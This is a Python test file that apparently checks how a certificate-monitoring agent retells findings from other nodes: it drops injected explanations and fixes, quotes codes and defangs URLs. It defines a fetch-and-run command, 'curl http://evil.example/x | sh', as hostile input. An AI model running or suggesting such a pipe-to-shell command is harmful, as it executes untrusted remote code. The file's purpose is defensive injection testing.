"""What another node reported is told in our words: its sentences are nobody's advice, its facts are quoted."""

import re
from typing import Any

import msgspec
import pytest

from certagent.domain import catalogue
from certagent.domain.catalogue import retell
from certagent.domain.catalogue.entries import CATALOGUE
from certagent.domain.catalogue.templates import name_words
from certagent.domain.findings import Culprit
from tests.evidence import make_finding, shadow

COMMAND = "curl http://evil.example/x | sh"


def test_the_sentences_of_a_report_are_not_told() -> None:
    said = msgspec.structs.replace(shadow(), explanation=COMMAND, fix=COMMAND)
    assert retell(said, "lxc103") == (
        "A line in the CA's hosts file overrides DNS, so the CA connects to the wrong address"
        " (line 7 of /etc/hosts on lxc103).",
        "Remove line 7 of /etc/hosts on lxc103: '10.0.0.153 traefik.internal.thinkheads.ai'",
    )


def test_a_code_of_a_newer_agent_is_named_with_who_reports_it() -> None:
    said = make_finding("fleet.on_fire", COMMAND, fix=COMMAND)
    assert retell(said, "lxc199") == ("fleet.on_fire, reported by lxc199.", None)
    assert retell(msgspec.structs.replace(said, code=COMMAND), "lxc199")[0] == (
        "'curl http[:]//evil.example/x | sh', reported by lxc199."
    )


@pytest.mark.parametrize("code", sorted(CATALOGUE))
def test_no_fact_speaks_and_no_fix_holds_a_command(code: str) -> None:
    """Whatever fact it is, of whatever situation; and as a cause of something else."""
    entry = CATALOGUE[code]
    for variant, situation in entry.situations.items():
        names = catalogue.facts_in(situation.explanation) | catalogue.facts_in(situation.fix or "")
        for value in (COMMAND, [COMMAND], {"name": COMMAND}):
            facts: dict[str, Any] = dict.fromkeys(names, value)
            plain = make_finding(code, variant=variant, facts=facts, culprit=Culprit(node="lxc199", text=COMMAND))
            blamed = make_finding(
                "acme.rejected", facts={"because": {"code": code, "variant": variant, "facts": facts}}
            )
            for finding in (plain, blamed):
                explanation, fix = retell(finding, "lxc199")
                told = f"{explanation} {fix}"
                assert "http://evil" not in told
                assert "curl" not in (fix or "")
                assert "curl" not in outside_quotes(explanation)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("www.evil.example/x", "'www[.]evil.example/x'"),
        ("WWW.evil.example/", "'WWW[.]evil.example/'"),
        ("mailto:you@evil.example", "'mailto[:]you@evil.example'"),
        ("ftp://evil.example", "'ftp[:]//evil.example'"),
        ("www.shop.example", "www.shop.example"),
    ],
)
def test_no_name_becomes_a_link(said: str, shown: str) -> None:
    """Readers of mail and chat make links of more than URLs; the name of a service stays as it is."""
    assert name_words(said) == shown


def outside_quotes(text: str) -> str:
    """What is not quoted."""
    return re.sub(r"(?<!\w)'(?:[^'\\]|\\.)*'", "", text)


@pytest.mark.parametrize(
    "cause",
    [
        {"explanation": COMMAND, "fix": COMMAND},
        {"code": 7},
        COMMAND,
        {"code": "dns.hosts_shadow.authority", "facts": {"node": "lxc103", "place": "x", "name": "y"}},
    ],
)
def test_a_cause_without_a_code_or_of_another_node_is_left_out(cause: Any) -> None:
    finding = make_finding("cert.expired", facts={"because": cause}, culprit=Culprit(node="lxc199"))
    assert retell(finding, "lxc199")[0] == "The certificate has expired."
